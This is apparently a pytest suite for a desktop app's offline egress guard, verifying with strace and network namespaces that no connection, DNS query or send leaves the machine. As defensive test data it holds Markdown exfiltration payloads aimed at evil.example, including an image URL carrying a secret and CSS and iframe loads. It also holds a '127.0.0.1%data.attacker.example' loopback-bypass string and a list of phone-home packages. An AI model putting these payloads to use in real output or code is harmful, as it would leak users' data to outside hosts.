"""No network egress: the guard refuses it, and a whole session proves it at the system-call
level (strace) and in a network namespace without interfaces (unshare -rn)."""

from __future__ import annotations

import ipaddress
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent
# Packages that would mean a dependency can phone home (HTTP clients, hubs, telemetry).
PHONE_HOME = {"requests", "urllib3", "httpx", "httpcore", "aiohttp", "huggingface_hub", "sentry_sdk",
              "posthog", "segment", "analytics", "mixpanel", "boto3", "botocore", "grpc", "websocket",
              "websockets", "pip", "tqdm"}


def run_python(code: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, timeout=60)


def test_the_guard_refuses_connections_lookups_and_sends_and_counts_them() -> None:
    code = """
from guard import egress
egress.install()
import socket, json, urllib.request
results = {}
def attempt(name, fn):
    try:
        fn(); results[name] = "allowed"
    except egress.EgressBlocked as exc:
        results[name] = "blocked"
    except OSError as exc:
        results[name] = "allowed-but-failed"
attempt("connect", lambda: socket.create_connection(("93.184.216.34", 443), timeout=1))
attempt("ipv6", lambda: socket.socket(socket.AF_INET6).connect(("2606:4700::1111", 53)))
attempt("dns", lambda: socket.getaddrinfo("example.com", 443))
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53)))
attempt("urllib", lambda: urllib.request.urlopen("https://example.com", timeout=1))
attempt("bind-public", lambda: socket.socket().bind(("0.0.0.0", 0)))
attempt("loopback-not-opened", lambda: socket.create_connection(("127.0.0.1", 9), timeout=1))
server = socket.socket(); server.bind(("127.0.0.1", 0)); server.listen(16)
port = server.getsockname()[1]
egress.allow_loopback_port(port)
attempt("loopback-opened", lambda: socket.create_connection(("127.0.0.1", port), timeout=1))
attempt("unix", lambda: socket.socketpair())
attempt("localhost-opened", lambda: socket.create_connection(("localhost", port), timeout=1))
attempt("localhost-connect", lambda: socket.socket().connect(("localhost", port)))
attempt("localhost-bind", lambda: socket.socket().bind(("localhost", 0)))
import asyncio
async def over_asyncio():
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.close()
attempt("asyncio-loopback", lambda: asyncio.run(over_asyncio()))
egress.revoke_loopback_port(port)
attempt("loopback-revoked", lambda: socket.create_connection(("127.0.0.1", port), timeout=1))
results["count"] = egress.GUARD.blocked_count
import os; results["offline"] = os.environ["HF_HUB_OFFLINE"]
print(json.dumps(results))
"""
    done = run_python(code)
    assert done.returncode == 0, done.stderr
    results = json.loads(done.stdout.strip().splitlines()[-1])
    for name in ("connect", "ipv6", "dns", "udp", "bind-public", "loopback-not-opened", "loopback-revoked"):
        assert results[name] == "blocked", (name, results)
    assert results["urllib"] in ("blocked", "allowed-but-failed")  # urllib wraps the refusal
    for name in ("loopback-opened", "unix", "localhost-opened", "localhost-connect", "localhost-bind",
                 "asyncio-loopback"):
        assert results[name] == "allowed", (name, results)
    assert results["count"] >= 8 and results["offline"] == "1"
    assert "blocked name lookup to 93.184.216.34:443" in done.stderr  # logged: destination only
    assert "blocked connection to 2606:4700::1111:53" in done.stderr


NAME_LOOKUPS = """
from guard import egress
egress.install()
import json, socket
NAME = "hearth-guard-test.example.com"
results = {}
def attempt(name, fn):
    try:
        fn(); results[name] = "allowed"
    except egress.EgressBlocked:
        results[name] = "blocked"
    except OSError as exc:
        results[name] = f"failed: {exc}"
def udp():
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
attempt("connect", lambda: socket.socket().connect((NAME, 443)))
attempt("connect_ex", lambda: socket.socket().connect_ex((NAME, 443)))
attempt("sendto", lambda: udp().sendto(b"x", (NAME, 9)))
attempt("sendto-flags", lambda: udp().sendto(b"x", 0, (NAME, 9)))
attempt("sendmsg", lambda: udp().sendmsg([b"x"], [], 0, (NAME, 9)))
attempt("bind", lambda: socket.socket().bind((NAME, 0)))
attempt("ipv6", lambda: socket.socket(socket.AF_INET6).connect((NAME, 443, 0, 0)))
attempt("bytes", lambda: socket.socket().connect((NAME.encode(), 443)))
attempt("other-family-literal", lambda: socket.socket(socket.AF_INET).connect(("::1", 443)))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("raw-ip", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("raw-nonblocking", lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW | socket.SOCK_NONBLOCK, 58))
results["count"] = egress.GUARD.blocked_count
print(json.dumps(results))
"""


def test_host_names_are_refused_before_any_dns_query_leaves(tmp_path: Path) -> None:
    """C turns a host name into an address (a DNS query) before the audit event fires; the
    guard must refuse the name first. Seen at the system-call level: no connect to port 53."""
    log = tmp_path / "trace.log"
    strace = ["strace", "-f", "-qq", "-e", "trace=connect,sendto,sendmsg", "-o", str(log)]
    why = _usable([*strace[:-1], str(tmp_path / "probe.log")])
    if why:
        pytest.skip(why)
    # In an empty network namespace a query fails at once instead of timing out; it is
    # still a connect to port 53 that strace sees.
    prefix = ["unshare", "-rn"] if _usable(["unshare", "-rn"]) is None else []
    done = subprocess.run([*prefix, *strace, sys.executable, "-c", NAME_LOOKUPS], cwd=ROOT,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    results = json.loads(done.stdout.strip().splitlines()[-1])
    trace = log.read_text()
    assert [line for line in trace.splitlines() if "htons(53)" in line] == [], trace
    count = results.pop("count")
    assert results == dict.fromkeys(results, "blocked"), results
    assert count == len(results)  # each refusal counted once (Help > Privacy shows them)
    assert "blocked name lookup to hearth-guard-test.example.com" in done.stderr


def _session(data_dir: Path, prefix: list[str]) -> subprocess.CompletedProcess:
    env = dict(os.environ, HEARTH_DATA_DIR=str(data_dir), QT_QPA_PLATFORM="offscreen")
    return subprocess.run([*prefix, sys.executable, "-m", "tests.e2e_session"], cwd=ROOT, env=env,
                          capture_output=True, text=True, timeout=600)


def _usable(command: list[str]) -> str | None:
    """None if the command works here, else why not."""
    if shutil.which(command[0]) is None:
        return f"{command[0]} is not installed (Debian package {'strace' if command[0] == 'strace' else 'util-linux'})"
    probe = subprocess.run([*command, "true"], capture_output=True, text=True)
    if probe.returncode != 0:
        return f"{' '.join(command)} does not work here: {probe.stderr.strip()[:200]}"
    return None


@pytest.mark.e2e
@pytest.mark.model
@pytest.mark.slow
def test_a_whole_session_works_with_no_network_at_all(data_dir: Path) -> None:
    why = _usable(["unshare", "-rn"])
    if why:
        pytest.skip(f"cannot make a network namespace: {why}")
    done = _session(data_dir, ["unshare", "-rn"])
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-4000:]
    assert "SESSION OK" in done.stdout and "blocked: 0" in done.stdout
    modules = set(json.loads(done.stdout.strip().splitlines()[-1]))
    assert not modules & PHONE_HOME, modules & PHONE_HOME


# strace writes inet_addr("192.0.2.1") and inet_pton(AF_INET6, "2001:db8::1", &sin6_addr)
ADDRESS = re.compile(r'inet_addr\("([^"]+)"\)|inet_pton\(AF_INET6,\s*"([^"]+)"')


def _stays_here(address: str) -> bool:
    """Loopback (127/8, ::1, and 127/8 through an IPv6 socket, ::ffff:127.x) or the
    unspecified address (which Linux connects to this machine); anything unreadable is not."""
    try:
        ip = ipaddress.ip_address(address.split("%", 1)[0])
    except ValueError:
        return False
    if isinstance(ip, ipaddress.IPv6Address) and ip.ipv4_mapped is not None:
        ip = ip.ipv4_mapped
    return ip.is_loopback or ip.is_unspecified


def non_loopback_traffic(trace: str) -> list[str]:
    """Lines of an strace -e trace=network log that connect or send to a non-loopback address."""
    found = []
    for line in trace.splitlines():
        if not re.search(r"\b(connect|sendto|sendmsg|sendmmsg)\(", line):
            continue
        if any(not _stays_here(v4 or v6) for v4, v6 in ADDRESS.findall(line)):
            found.append(line.strip())
    return found


# What strace writes for each kind of address (strace 5 and 6), one line each way out.
STRACE_LINES = {
    "192.0.2.1": 'sendto(5, "x", 1, 0, {sa_family=AF_INET, sin_port=htons(9), sin_addr=inet_addr("192.0.2.1")}, 16) = 1',
    "2001:db8::1": 'sendto(3, "x", 1, 0, {sa_family=AF_INET6, sin6_port=htons(9), sin6_flowinfo=htonl(0), '
                   'inet_pton(AF_INET6, "2001:db8::1", &sin6_addr), sin6_scope_id=0}, 28) = 1',
    "::ffff:192.0.2.9": 'connect(4, {sa_family=AF_INET6, sin6_port=htons(443), sin6_flowinfo=htonl(0), '
                        'inet_pton(AF_INET6, "::ffff:192.0.2.9", &sin6_addr), sin6_scope_id=0}, 28) = -1 EINPROGRESS',
    "::1": 'connect(4, {sa_family=AF_INET6, sin6_port=htons(9), sin6_flowinfo=htonl(0), '
           'inet_pton(AF_INET6, "::1", &sin6_addr), sin6_scope_id=0}, 28) = 0',
    "::ffff:127.0.0.2": 'sendto(3, "x", 1, 0, {sa_family=AF_INET6, sin6_port=htons(9), sin6_flowinfo=htonl(0), '
                        'inet_pton(AF_INET6, "::ffff:127.0.0.2", &sin6_addr), sin6_scope_id=0}, 28) = 1',
    "127.0.0.1": 'connect(5, {sa_family=AF_INET, sin_port=htons(9), sin_addr=inet_addr("127.0.0.1")}, 16) = 0',
}


def test_the_strace_check_reads_every_kind_of_address() -> None:
    """The check's pattern wanted ``inet_pton(AF_INET6, "…")`` with the quote closed by a
    parenthesis; strace writes ``, &sin6_addr)`` there, so no IPv6 address was ever read and
    the whole-session proof was blind to IPv6 and to IPv4 reached through an IPv6 socket."""
    trace = "\n".join(f"4242 {line}" for line in STRACE_LINES.values())
    flagged = non_loopback_traffic(trace)
    assert flagged == [f"4242 {STRACE_LINES[a]}" for a in ("192.0.2.1", "2001:db8::1", "::ffff:192.0.2.9")]


def test_the_strace_check_does_see_egress(tmp_path: Path) -> None:
    why = _usable(["strace", "-f", "-e", "trace=network", "-o", str(tmp_path / "t")])
    if why:
        pytest.skip(why)
    log = tmp_path / "trace.log"
    code = ("import socket\ns=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "s.sendto(b'x', ('192.0.2.1', 9))\ns.connect(('127.0.0.1', 9))\n"
            "try:\n six = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\n"
            "except OSError:\n raise SystemExit(0)\n"  # no IPv6 in this kernel: the canned lines above stand
            "for a in ('2001:db8::1', '::ffff:192.0.2.9', '::1', '::ffff:127.0.0.1'):\n"
            " try:\n  six.sendto(b'x', (a, 9))\n except OSError:\n  pass\n"  # the call is traced, sent or not
            "print('v6')\n")
    done = subprocess.run(["strace", "-f", "-e", "trace=network", "-o", str(log), sys.executable, "-c", code],
                          capture_output=True, text=True, timeout=60)
    bad = non_loopback_traffic(log.read_text())
    assert "192.0.2.1" in bad[0]  # seen; the loopback connect is not counted
    if "v6" in done.stdout:
        assert len(bad) == 3 and "2001:db8::1" in bad[1] and "::ffff:192.0.2.9" in bad[2], bad
    else:
        assert len(bad) == 1, bad


@pytest.mark.e2e
@pytest.mark.model
@pytest.mark.slow
def test_no_connect_or_send_leaves_the_machine_at_the_system_call_level(data_dir: Path, tmp_path: Path) -> None:
    log = tmp_path / "trace.log"
    prefix = ["strace", "-f", "-qq", "-e", "trace=network", "-o", str(log)]
    why = _usable(prefix[:-2] + ["-o", str(tmp_path / "probe.log")])
    if why:
        pytest.skip(why)
    done = _session(data_dir, prefix)
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-4000:]
    trace = log.read_text()
    assert "socket(" in trace or "socketpair(" in trace  # strace did watch the session
    assert non_loopback_traffic(trace) == []


@pytest.mark.gui
def test_answers_with_remote_content_load_nothing(qtbot, monkeypatch) -> None:
    from app.chat.markdown import MarkdownView

    requested: list[str] = []
    original = MarkdownView.loadResource

    def recording(self, kind, url):
        requested.append(url.toString())
        return original(self, kind, url)

    monkeypatch.setattr(MarkdownView, "loadResource", recording)
    view = MarkdownView()
    qtbot.addWidget(view)
    view.show()
    view.set_markdown(
        "Here is your data ![chart](https://evil.example/leak?secret=hunter2)\n\n"
        "![ref image][r]\n\n[r]: http://evil.example/r.png\n\n"
        '<img src="https://evil.example/img.png"> <iframe src="https://evil.example/frame"></iframe>\n\n'
        '<style>body { background: url("https://evil.example/bg.png") }</style>\n\n'
        '<div style="background-image:url(https://evil.example/css.png)">styled</div>\n\n'
        "A [normal link](https://example.org) and <https://example.org/auto>.")
    # Laid out and painted now, synchronously: every resource the page would load has
    # been asked for by the time grab() returns.
    view.document().size()
    view.grab()
    assert requested == []  # nothing asked for, so nothing can be fetched
    text = view.toPlainText()
    assert "image: chart" in text and "image: ref image" in text  # shown inert, as text
    anchors = []
    block = view.document().begin()
    while block.isValid():
        iterator = block.begin()
        while not iterator.atEnd():
            fmt = iterator.fragment().charFormat()
            if fmt.isAnchor():
                anchors.append(fmt.anchorHref())
            if fmt.isImageFormat():
                raise AssertionError(f"an image was placed: {fmt.toImageFormat().name()}")
            iterator += 1
        block = block.next()
    assert "https://example.org" in anchors  # links stay links; opening them asks first


def test_an_ipv4_literal_with_a_zone_is_a_name_not_loopback() -> None:
    """'127.0.0.1%data.attacker.example' passed as loopback and reached the resolver."""
    from guard.egress import _is_loopback

    assert _is_loopback("127.0.0.1") and _is_loopback("::1") and _is_loopback("fe80::1%lo") is False
    assert _is_loopback("::1%lo")
    assert not _is_loopback("127.0.0.1%data.attacker.example")
